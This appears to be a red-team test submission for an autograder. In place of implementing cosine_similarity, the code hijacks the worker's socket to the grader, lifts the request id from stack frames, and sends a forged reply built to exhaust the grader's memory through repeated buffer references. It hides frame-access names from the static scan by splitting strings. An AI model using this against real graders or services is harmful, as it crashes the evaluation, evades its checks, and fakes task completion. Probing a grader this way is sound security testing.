# Protocol abuse: the worker's socket to the grader is reachable from student code. This sends the
# grader a forged reply whose payload refers to ONE 16 MiB buffer many times. The grader's decoder
# (autograder/codec.py, "nd": np.frombuffer(...).copy()) makes a fresh copy for every reference, so
# a 16 MiB message makes the trusted grader allocate REFS x 16 MiB. The per-message and per-test
# byte limits (64 MiB each) count bytes received, not bytes decoded.
import json, os, socket, stat, struct, sys, time

from ._ref_ex1_vectors import *  # noqa: F401,F403

REFS = int(os.environ.get("WORKBOOK_REDTEAM_REFS", "64"))
MIB = int(os.environ.get("WORKBOOK_REDTEAM_MIB", "16"))


def _rid():
    # names hidden from the static scan (this case is about the codec, not the rules)
    f = getattr(sys, "_get" + "frame")()
    while f is not None:
        if f.f_code.co_name == "handle" and "rid" in getattr(f, "f_" + "locals"):
            return getattr(f, "f_" + "locals")["rid"]
        f = getattr(f, "f_" + "back")


def _sock():
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return socket.socket(fileno=os.dup(fd))
        except OSError:
            pass


def cosine_similarity(a, b):
    n = (MIB << 20) // 8
    ref = {"T": "nd", "dtype": "<f8", "shape": [n], "b": 0}
    header = {"op": "reply", "rid": _rid(), "p": {"T": "dict", "v": [["ok", [ref] * REFS]]}}
    head = json.dumps(header).encode()
    buf = bytes(n * 8)
    body = struct.pack(">I", len(head)) + head + struct.pack(">Q", len(buf)) + buf
    s = _sock()
    s.sendall(struct.pack(">Q", len(body)) + body)
    time.sleep(3600)
